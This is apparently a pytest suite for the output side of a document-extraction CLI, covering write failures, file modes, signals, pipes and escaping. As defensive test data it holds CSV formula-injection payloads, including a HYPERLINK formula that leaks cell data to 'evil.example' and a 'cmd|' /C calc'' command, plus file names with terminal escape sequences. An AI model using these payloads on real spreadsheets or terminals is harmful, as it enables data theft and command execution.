"""The output side of `khplan` under faults (issue 11): paths that cannot be written, CSV cells that would run
as formulas, modes and umask, signals, closed pipes, leftovers of killed runs, and names that would break a
terminal line.

Most tests serve hand-built documents instead of extracting (the output side is what is tested); the
signal, pipe and full-disk tests run the real `khplan` in a child process on a small seed.
"""

from __future__ import annotations

import errno
import fcntl
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

import extractor
from extractor import cleanup, runner
from extractor import options as options_module
from extractor.cli import EXIT_BROKEN_PIPE, EXIT_FAILED, EXIT_OK, EXIT_USAGE, LIMIT_ALIASES, Stopped, main
from extractor.errors import InputError
from extractor.options import ExtractOptions
from extractor.output import csv as tables_csv
from extractor.output import findings_csv
from extractor.output.files import (
    TEMP_PREFIX,
    AtomicFile,
    OutputError,
    temp_name,
    write_atomically,
)
from extractor.output.printable import printable, shown
from extractor.output.report_text import text_report
from extractor.output.spreadsheet import spreadsheet_safe
from models import ExtractedDocument
from models.findings import Finding, Location
from models.tables import Column
from tests.conftest import ROOT, SEED_STEMS, SEEDS
from tests.factories import document_with, make_table
from tests.test_tables_build import only_table, text_grid

SEED = SEEDS / f"{SEED_STEMS[0]}.txt"
LIMIT_ALIASES_BY_NAME = [(alias, field) for field, alias in LIMIT_ALIASES.items()]
PROGRAM = [sys.executable, "-m", "extractor.cli"]

COLUMNS = [
    Column(index=0, path=["TT"], role="ordinal"),
    Column(index=1, path=["Thôn"], role="label"),
    Column(index=2, path=["=Chênh lệch"], role="other"),
    Column(index=3, path=["Ghi chú"], role="other"),
]
HOSTILE_TABLE = make_table(
    COLUMNS,
    [
        ("unit", "Khả Lý", ["-1250", '=HYPERLINK("http://evil.example/?leak="&A1,"xem")']),
        ("unit", "Khả Lý Hạ", ["-0,5", "@SUM(A1:A9)"]),
        ("unit", "Cây Tắt", ["", "-2+3+cmd|' /C calc'!A0"]),
    ],
)


def served_document(name: str) -> ExtractedDocument:
    """A small extraction named ``name``: one table whose cells try to run as formulas, one finding."""
    document = document_with(HOSTILE_TABLE)
    wrong = Finding(
        id="f1",
        rule="percent.table",
        severity="error",
        message_vi="=1+1 sai",
        message_en="=1+1 wrong",
        location=Location(table_id="t1", row_id="r1", column=2),
        stated="-1.250",
        expected="@x",
        evidence="-2+3+cmd|' /C calc'!A0",
    )
    source = document.source.model_copy(update={"path": name})
    return document.model_copy(update={"source": source, "findings": [wrong]})


@pytest.fixture
def served(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """`khplan` extracts any name ending in .txt as ``served_document``; other names fail as missing.

    The list it returns fills with the paths `khplan` asked for, in order.
    """
    asked: list[Path] = []

    def fake_extract(path: str | Path, options: ExtractOptions | None = None) -> ExtractedDocument:
        asked.append(Path(path))
        if not str(path).endswith(".txt"):
            raise InputError(str(path), "no such file")
        return served_document(str(path))

    monkeypatch.setattr(extractor, "extract_document", fake_extract)
    monkeypatch.setattr(runner, "DocumentRunner", runner.InProcessRunner)  # the calls are counted here
    return asked


def one_error_line(err: str, *needles: str) -> str:
    """The single stderr line (no traceback) that holds every needle."""
    assert "Traceback" not in err, err
    lines = [line for line in err.splitlines() if all(needle in line for needle in needles)]
    assert len(lines) == 1, (needles, err)
    return lines[0]


def is_root() -> bool:
    return os.geteuid() == 0


def temporaries(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir() if path.name.endswith(".tmp"))


# --------------------------------------------------------------------------------------- output failures


def test_an_existing_file_for_several_inputs_is_a_usage_error_before_any_work(
    tmp_path: Path, served: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "plans.json"
    target.write_text("keep me\n", encoding="utf-8")
    assert main(["extract", "a.txt", "b.txt", "-o", str(target)]) == EXIT_USAGE
    line = one_error_line(capsys.readouterr().err, str(target))
    assert "is a file" in line and "folder" in line
    assert served == [] and target.read_text(encoding="utf-8") == "keep me\n"
    assert main(["check", "a.txt", "b.txt", "-o", str(target)]) == EXIT_USAGE


def test_one_input_may_overwrite_an_existing_file_keeping_its_mode(
    tmp_path: Path, served: list[Path]
) -> None:
    target = tmp_path / "result"  # no suffix: today a folder name, but an existing file is a file
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o640)
    assert main(["extract", "a.txt", "-o", str(target)]) == EXIT_OK
    assert json.loads(target.read_text(encoding="utf-8"))["source"]["path"] == "a.txt"
    assert target.stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize("inputs", [["a.txt"], ["a.txt", "b.txt"]], ids=["file", "folder"])
def test_a_dangling_symlink_is_refused_with_its_target(
    tmp_path: Path, served: list[Path], capsys: pytest.CaptureFixture[str], inputs: list[str]
) -> None:
    link = tmp_path / ("out.json" if len(inputs) == 1 else "out")
    link.symlink_to(tmp_path / "gone" / "x")
    assert main(["extract", *inputs, "-o", str(link)]) == EXIT_FAILED
    line = one_error_line(capsys.readouterr().err, str(link))
    assert "symbolic link" in line and "does not exist" in line
    assert served == []  # refused before any work
    assert link.is_symlink() and not (tmp_path / "gone").exists()


def test_a_symlink_to_an_existing_file_is_followed(tmp_path: Path, served: list[Path]) -> None:
    real = tmp_path / "real.json"
    real.write_text("{}\n", encoding="utf-8")
    real.chmod(0o600)
    link = tmp_path / "link.json"
    link.symlink_to(real)
    assert main(["extract", "a.txt", "-o", str(link)]) == EXIT_OK
    assert link.is_symlink() and json.loads(real.read_text(encoding="utf-8"))["source"]["path"] == "a.txt"
    assert real.stat().st_mode & 0o777 == 0o600


def test_check_csv_naming_a_folder_fails_before_any_work(
    tmp_path: Path, served: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "findings"
    folder.mkdir()
    assert main(["check", "a.txt", "--csv", str(folder), "-o", str(tmp_path / "reports")]) == EXIT_FAILED
    line = one_error_line(capsys.readouterr().err, str(folder))
    assert "is a folder" in line
    assert served == [] and list(folder.iterdir()) == []


def test_tables_csv_into_a_file_fails(
    tmp_path: Path, served: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    not_a_folder = tmp_path / "tables"
    not_a_folder.write_text("", encoding="utf-8")
    assert main(["tables", "a.txt", "--csv", str(not_a_folder)]) == EXIT_FAILED
    assert "is a file, not a folder" in one_error_line(capsys.readouterr().err, str(not_a_folder))


def test_a_folder_under_a_file_fails(
    tmp_path: Path, served: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "plain").write_text("", encoding="utf-8")
    out = tmp_path / "plain" / "out"
    assert main(["extract", "a.txt", "b.txt", "-o", str(out)]) == EXIT_FAILED
    assert "cannot create the folder" in one_error_line(capsys.readouterr().err, str(out))


def test_a_result_that_cannot_be_written_fails_alone_and_the_others_are_kept(
    tmp_path: Path, served: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    (out / "b.txt.json").mkdir(parents=True)  # a folder where b's result should go
    assert main(["extract", "a.txt", "b.txt", "c.txt", "-o", str(out)]) == EXIT_FAILED
    assert "is a folder" in one_error_line(capsys.readouterr().err, "b.txt.json")
    assert sorted(path.name for path in out.iterdir()) == ["a.txt.json", "b.txt.json", "c.txt.json"]
    assert json.loads((out / "c.txt.json").read_text(encoding="utf-8"))["source"]["path"] == "c.txt"
    assert temporaries(out) == []


def test_a_full_disk_stops_the_batch_and_keeps_what_was_written(
    tmp_path: Path, served: list[Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    written = 0
    real_write = AtomicFile.write

    def write_until_full(self: AtomicFile, text: str) -> None:
        nonlocal written
        if self.path.name.startswith("b."):
            raise OutputError.from_os_error(self.path, "cannot write", OSError(errno.ENOSPC, "full"))
        written += 1
        real_write(self, text)

    monkeypatch.setattr(AtomicFile, "write", write_until_full)
    out = tmp_path / "out"
    assert main(["extract", "a.txt", "b.txt", "c.txt", "-o", str(out)]) == EXIT_FAILED
    err = capsys.readouterr().err
    assert "no space left" in one_error_line(err, "b.txt.json")
    assert "stopping" in err
    assert served == [Path("a.txt"), Path("b.txt")]  # c is not extracted for nothing
    assert sorted(path.name for path in out.iterdir()) == ["a.txt.json"]


def run_as_nobody(arguments: list[str], **options: object) -> subprocess.CompletedProcess[str]:
    """`khplan ARGUMENTS` as an unprivileged user: as root, permissions bind only through setpriv."""
    command = [*PROGRAM, *arguments]
    if is_root():
        if shutil.which("setpriv") is None:
            pytest.skip("running as root without setpriv: a read-only folder does not bind root")
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    return subprocess.run(command, capture_output=True, text=True, cwd=ROOT, timeout=120, **options)


def test_a_read_only_folder_fails_with_one_line_and_exit_3() -> None:
    with tempfile.TemporaryDirectory() as work:
        base = Path(work)
        base.chmod(0o755)  # nobody may enter, not write
        read_only = base / "reports"
        read_only.mkdir(mode=0o555)
        read_only.chmod(0o555)
        plan = base / SEED.name
        shutil.copy(SEED, plan)
        plan.chmod(0o644)
        finished = run_as_nobody(["extract", str(plan), "-o", str(read_only)])
        assert finished.returncode == EXIT_FAILED, finished.stderr
        assert "permission denied" in one_error_line(finished.stderr, str(read_only))
        assert list(read_only.iterdir()) == []
        finished = run_as_nobody(["check", str(plan), "--csv", str(read_only / "findings.csv")])
        assert finished.returncode == EXIT_FAILED
        assert "permission denied" in one_error_line(finished.stderr, str(read_only))


def test_stdout_on_a_full_disk_is_an_output_failure() -> None:
    with open("/dev/full", "w") as full:
        finished = subprocess.run(
            [*PROGRAM, "extract", str(SEED)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            cwd=ROOT,
            timeout=120,
        )
    assert finished.returncode == EXIT_FAILED
    assert finished.stderr.strip() == "khplan: stdout: cannot write (no space left on the device)"


# ------------------------------------------------------------------------------------------ CSV escaping


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+84912345678", "'+84912345678"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # starts like a number, runs a command
        ("-1+1", "'-1+1"),
        ("-A1", "'-A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),  # a leading space hides nothing
        ("-1250", "-1250"),  # a negative amount stays a number the spreadsheet can add up
        ("-1.250", "-1.250"),
        ("-1.250.000", "-1.250.000"),
        ("-0,12", "-0,12"),
        ("-3%", "-3%"),
        ("-", "-"),  # the plans' "nothing here"
        ("- a", "'- a"),
        ("-1.250 đồng", "'-1.250 đồng"),
        ("Cây Tắt", "Cây Tắt"),
        ("", ""),
    ],
)
def test_cells_never_run_as_formulas(value: str, written: str) -> None:
    assert spreadsheet_safe(value) == written


def test_every_csv_writer_shares_the_one_rule() -> None:
    assert findings_csv.spreadsheet_safe is spreadsheet_safe
    text = tables_csv.table_csv_text(HOSTILE_TABLE)
    rows = [line.split(",", 2) for line in text.splitlines()]
    assert rows[0][2].startswith("TT,Thôn,'=Chênh lệch")
    assert "-1250,'=HYPERLINK(" in text.replace('"', "")
    assert "'@SUM(A1:A9)" in text and "'-2+3+cmd" in text and ",-0.5," in text
    finding_cells = findings_csv.finding_rows("plan.txt", served_document("plan.txt"))[0]
    assert "-1.250" in finding_cells and "'@x" in finding_cells
    assert "'-2+3+cmd|' /C calc'!A0" in finding_cells and not any(
        cell.startswith("=") for cell in finding_cells
    )


def test_tables_csv_of_a_real_table_escapes_formulas(tmp_path: Path) -> None:
    grid = text_grid(
        [
            ["TT", "Thôn", "Tổng số hộ", "Ghi chú"],
            ["1", '=HYPERLINK("http://x")', "1.011", "@SUM(A1)"],
            ["2", "Khả Lý Hạ", "494", "-"],
        ]
    )
    path = tmp_path / "plan.t1.csv"
    tables_csv.write_table_csv(only_table(grid), path)
    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM(A1)" in text
    assert not any(cell.startswith(("=", "@")) for line in text.splitlines() for cell in line.split(","))


def test_check_and_tables_write_escaped_csv(tmp_path: Path, served: list[Path]) -> None:
    assert main(["check", "a.txt", "--csv", str(tmp_path / "f.csv"), "-o", str(tmp_path / "r")]) == EXIT_OK
    assert main(["tables", "a.txt", "--csv", str(tmp_path / "t")]) == EXIT_OK
    for path in (tmp_path / "f.csv", tmp_path / "t" / "a.txt.t1.csv"):
        text = path.read_text(encoding="utf-8-sig")
        assert "'-2+3+cmd" in text and ",=" not in text and ',"=' not in text


# ------------------------------------------------------------------------------------ modes and leftovers


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o027, 0o640), (0o077, 0o600)])
def test_new_files_follow_the_umask(tmp_path: Path, umask: int, mode: int) -> None:
    previous = os.umask(umask)
    try:
        write_atomically(tmp_path / "plan.json", "{}")
    finally:
        os.umask(previous)
    assert (tmp_path / "plan.json").stat().st_mode & 0o777 == mode


@pytest.mark.parametrize("mode", [0o600, 0o644, 0o664])
def test_a_rewritten_file_keeps_its_mode(tmp_path: Path, mode: int) -> None:
    target = tmp_path / "plan.json"
    target.write_text("old", encoding="utf-8")
    target.chmod(mode)
    previous = os.umask(0o077 if mode != 0o600 else 0o002)
    try:
        write_atomically(target, "new")
    finally:
        os.umask(previous)
    assert target.stat().st_mode & 0o777 == mode and target.read_text(encoding="utf-8") == "new\n"


def test_a_stop_while_writing_removes_the_temporary_file_and_keeps_the_old_result(tmp_path: Path) -> None:
    target = tmp_path / "plan.json"
    target.write_text("before\n", encoding="utf-8")
    with pytest.raises(Stopped), AtomicFile(target) as out:
        out.write("half of a res")
        assert temporaries(tmp_path) != []
        raise Stopped(signal.SIGTERM)
    assert temporaries(tmp_path) == [] and target.read_text(encoding="utf-8") == "before\n"


def copies_of_the_seed(folder: Path, count: int) -> list[str]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for index in range(count):
        path = folder / f"plan-{index:03}.txt"
        shutil.copy(SEED, path)
        paths.append(str(path))
    return paths


def test_sigterm_cleans_up_says_one_line_and_exits_143(tmp_path: Path) -> None:
    inputs = copies_of_the_seed(tmp_path / "in", 150)
    out = tmp_path / "out"
    process = subprocess.Popen(
        [*PROGRAM, "extract", *inputs, "-o", str(out)], stderr=subprocess.PIPE, text=True, cwd=ROOT
    )
    deadline = time.monotonic() + 60
    while not (out.is_dir() and any(path.suffix == ".json" for path in out.iterdir())):
        assert process.poll() is None and time.monotonic() < deadline, "no result appeared"
        time.sleep(0.02)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 128 + signal.SIGTERM
    assert err.strip().splitlines() == ["khplan: stopped by SIGTERM; results already written are kept"]
    results = sorted(out.iterdir())
    assert results and temporaries(out) == []
    assert 0 < len(results) < len(inputs)
    for path in results:
        json.loads(path.read_text(encoding="utf-8"))  # every kept result is whole


def dead_pid() -> int:
    """The pid of a process that has exited and been reaped."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


KILLED_WRITER = """
import os, signal, sys
from pathlib import Path
from extractor.output.files import AtomicFile
out = AtomicFile(Path(sys.argv[1]))
out.write("x" * 100000)
out.stream.flush()
os.kill(os.getpid(), signal.SIGKILL)
"""


def test_the_next_run_sweeps_what_a_sigkill_left_and_only_that(tmp_path: Path, served: list[Path]) -> None:
    out = tmp_path / "out"
    out.mkdir()
    killed = subprocess.run(
        [sys.executable, "-c", KILLED_WRITER, str(out / "a.txt.json")], cwd=ROOT, check=False
    )
    assert killed.returncode == -signal.SIGKILL
    left = temporaries(out)
    assert len(left) == 1 and left[0].startswith(TEMP_PREFIX)
    dead = dead_pid()
    (out / temp_name("z.json", pid=dead)).write_text("partial", encoding="utf-8")
    live = out / temp_name("y.json", pid=os.getppid())  # a concurrent run: the process that started pytest
    live.write_text("being written", encoding="utf-8")
    foreign = out / temp_name("w.json", pid=dead)  # a dead-looking pid whose writer holds the lock
    foreign.write_text("another container's run", encoding="utf-8")
    legacy = out / ".plan.json.k2x9q1ab.tmp"  # no pid: whose it is cannot be told
    legacy.write_text("", encoding="utf-8")
    link = out / temp_name("l.json", pid=dead)
    link.symlink_to(tmp_path / "elsewhere")
    with foreign.open("rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        assert main(["extract", "a.txt", "-o", str(out)]) == EXIT_OK
    kept = sorted(path.name for path in out.iterdir())
    assert kept == sorted(["a.txt.json", live.name, foreign.name, legacy.name, link.name])


def test_the_sweep_takes_only_dead_owners_files_and_folders(tmp_path: Path) -> None:
    dead = dead_pid()
    stale_file = tmp_path / f".khplan-{dead}.abcd1234.plan.json.tmp"
    stale_file.write_text("", encoding="utf-8")
    stale_folder = tmp_path / f"khplan-office-{dead}.k2x9q1ab"
    (stale_folder / "profile").mkdir(parents=True)
    (stale_folder / "input.doc").write_bytes(b"a copy of the input")
    running = tmp_path / f"khplan-office-{os.getpid()}.abcdefgh"
    running.mkdir()
    unnamed = tmp_path / "khplan-office-abcdefgh"
    unnamed.mkdir()
    assert cleanup.sweep_dead_owners(tmp_path, "khplan-office-") == [stale_folder]
    assert cleanup.sweep_dead_owners(tmp_path, ".khplan-") == [stale_file]
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([running.name, unnamed.name])


def test_every_extracting_run_sweeps_dead_libreoffice_work_folders(
    tmp_path: Path, served: list[Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    stale = tmp_path / f"{cleanup.OFFICE_WORK_PREFIX}{dead_pid()}.k2x9q1ab"
    stale.mkdir()
    (stale / "input.odt").write_bytes(b"PK")
    running = tmp_path / f"{cleanup.OFFICE_WORK_PREFIX}{os.getpid()}.k2x9q1ab"
    running.mkdir()
    assert main(["extract", "a.txt"]) == EXIT_OK
    assert not stale.exists() and running.is_dir()


@pytest.mark.parametrize(
    ("name", "pid"),
    [
        (".khplan-4242.9f3a1c07.plan.pdf.json.tmp", 4242),
        ("khplan-office-4242.k2x9q1ab", 4242),
        ("khplan-office-k2x9q1ab", None),
        ("khplan-office-0.k2x9q1ab", None),
        (".khplan-4242", None),
        (".plan.json.4242.abcd1234.tmp", None),
    ],
)
def test_owner_pid(name: str, pid: int | None) -> None:
    prefix = ".khplan-" if name.startswith(".") else "khplan-office-"
    assert cleanup.owner_pid(name, prefix) == pid


def test_the_writers_and_the_sweep_agree_on_the_temporary_names() -> None:
    from extractor.ingest import office

    assert getattr(office, "WORK_FOLDER_PREFIX", cleanup.OFFICE_WORK_PREFIX) == cleanup.OFFICE_WORK_PREFIX
    assert TEMP_PREFIX == cleanup.OUTPUT_TEMP_PREFIX
    assert cleanup.owner_pid(temp_name("kế hoạch.docx.json"), TEMP_PREFIX) == os.getpid()
    assert len(temp_name("x" * 255).encode()) <= 255


def test_process_alive() -> None:
    assert cleanup.process_alive(os.getpid()) and cleanup.process_alive(1)
    assert not cleanup.process_alive(dead_pid())


# ----------------------------------------------------------------------------------------- closed pipes


def run_into_a_closed_pipe(arguments: list[str]) -> tuple[int, str]:
    """Run `khplan ARGUMENTS | head -1`: read one line, close the pipe, and return the code and stderr."""
    process = subprocess.Popen(
        [*PROGRAM, *arguments], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT
    )
    assert process.stdout is not None and process.stderr is not None
    process.stdout.readline()
    process.stdout.close()
    err = process.stderr.read().decode("utf-8")
    return process.wait(timeout=120), err


@pytest.mark.parametrize(
    "arguments",
    [["check", str(SEED), str(SEED)], ["extract", str(SEED), str(SEED), "--pretty"], ["tables", str(SEED)]],
    ids=["check", "extract", "tables"],
)
def test_a_closed_pipe_ends_quietly_with_141(arguments: list[str]) -> None:
    code, err = run_into_a_closed_pipe(arguments)
    assert err == ""
    assert code in (EXIT_OK, EXIT_BROKEN_PIPE)  # tables of a seed without one may fit in the first line
    if arguments[0] != "tables":
        assert code == EXIT_BROKEN_PIPE


# ---------------------------------------------------------------------------------- names in messages


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("kế hoạch 12.docx", "kế hoạch 12.docx"),
        ("plan\n.txt", '"plan\\n.txt"'),
        ("\x1b[2Jplan.pdf", '"\\x1b[2Jplan.pdf"'),
        ("a\tb\rc", '"a\\tb\\rc"'),
        ("x\u202egpj.exe", '"x\\u202egpj.exe"'),
        ('q"uote', '"q\\"uote"'),
        ("back\\slash", '"back\\\\slash"'),
        (os.fsdecode(b"caf\xe9.txt"), '"caf\\xe9.txt"'),
        ("\x9bc1", '"\\x9bc1"'),
    ],
)
def test_shown_names_stay_on_one_safe_line(name: str, expected: str) -> None:
    assert shown(name) == expected
    assert shown(name).isprintable() or shown(name) == name


def test_printable_escapes_control_characters_only() -> None:
    assert printable("lỗi\n\x1b[31mđỏ") == "lỗi\\n\\x1b[31mđỏ"
    assert printable("kế hoạch: ổn") == "kế hoạch: ổn"


def test_every_message_shows_hostile_names_escaped(
    tmp_path: Path, served: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = "plan\n\x1b[31mkhplan: all good.pdf"
    out = tmp_path / "out\x1b]0;owned\x07"
    assert main(["extract", hostile, "a.txt", "-o", str(out)]) == EXIT_FAILED
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    lines = err.splitlines()
    assert len(lines) == 2 and all(line.startswith("khplan: ") for line in lines)
    assert lines[0] == 'khplan: "plan\\n\\x1b[31mkhplan: all good.pdf": no such file'
    assert "\\x1b]0;owned\\x07" in lines[1]


def test_the_text_report_shows_the_name_escaped() -> None:
    report = text_report(served_document("bad\n\x1b[2Jname.txt"))
    assert "\x1b" not in report and '"bad\\n\\x1b[2Jname.txt"' in report


# ------------------------------------------------------------------------------------------------ limits

LIMITS = getattr(options_module, "LIMITS", ())
SAMPLE_VALUES = {"SIZE": "5M", "N": "1.5M", "SECONDS": "90"}


@pytest.fixture
def captured_options(monkeypatch: pytest.MonkeyPatch) -> list[ExtractOptions]:
    """`khplan` extracts any name as ``served_document``; the list fills with the options of each call."""
    seen: list[ExtractOptions] = []

    def fake_extract(path: str | Path, options: ExtractOptions) -> ExtractedDocument:
        seen.append(options)
        return served_document(str(path))

    monkeypatch.setattr(extractor, "extract_document", fake_extract)
    monkeypatch.setattr(runner, "DocumentRunner", runner.InProcessRunner)  # the calls are counted here
    return seen


@pytest.mark.parametrize("limit", LIMITS, ids=[limit.flag for limit in LIMITS])
@pytest.mark.parametrize("verb", ["extract", "check", "tables"])
def test_each_limit_flag_reaches_the_options(
    limit, verb: str, captured_options: list[ExtractOptions], capsys: pytest.CaptureFixture[str]
) -> None:
    text = SAMPLE_VALUES[limit.metavar]
    assert main([verb, "a.txt", limit.flag, text, *(["--json"] if verb == "tables" else [])]) == EXIT_OK
    (options,) = captured_options
    assert getattr(options, limit.field) == limit.parse(text)
    assert options.model_dump(exclude={limit.field}) == ExtractOptions().model_dump(exclude={limit.field})


@pytest.mark.parametrize(("alias", "field"), LIMIT_ALIASES_BY_NAME)
def test_the_briefs_names_are_aliases(alias: str, field: str, captured_options: list[ExtractOptions]) -> None:
    if field not in ExtractOptions.model_fields:
        pytest.skip(f"ExtractOptions has no {field} yet")
    assert main(["extract", "a.txt", alias, "7"]) == EXIT_OK
    assert getattr(captured_options[0], field) == 7


def test_a_bad_limit_is_a_usage_error_before_any_work(
    captured_options: list[ExtractOptions],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    if not LIMITS:
        pytest.skip("ExtractOptions has no limits yet")
    with pytest.raises(SystemExit) as raised:
        main(["extract", "a.txt", LIMITS[0].flag, "many"])
    assert raised.value.code == EXIT_USAGE and "many" in capsys.readouterr().err
    monkeypatch.setenv(LIMITS[0].env, "many")
    assert main(["extract", "a.txt"]) == EXIT_USAGE
    assert LIMITS[0].env in one_error_line(capsys.readouterr().err, "many")
    assert captured_options == []


def test_without_limit_flags_the_defaults_hold(captured_options: list[ExtractOptions]) -> None:
    assert main(["extract", "a.txt"]) == EXIT_OK
    assert captured_options == [ExtractOptions()]


def test_verb_help_shows_the_limits_and_the_exit_codes() -> None:
    help_text = subprocess.run(
        [*PROGRAM, "extract", "--help"], capture_output=True, text=True, cwd=ROOT, check=True
    ).stdout
    assert all(limit.flag in help_text and limit.env in help_text for limit in LIMITS)
    assert "3 an input or an output failed" in help_text
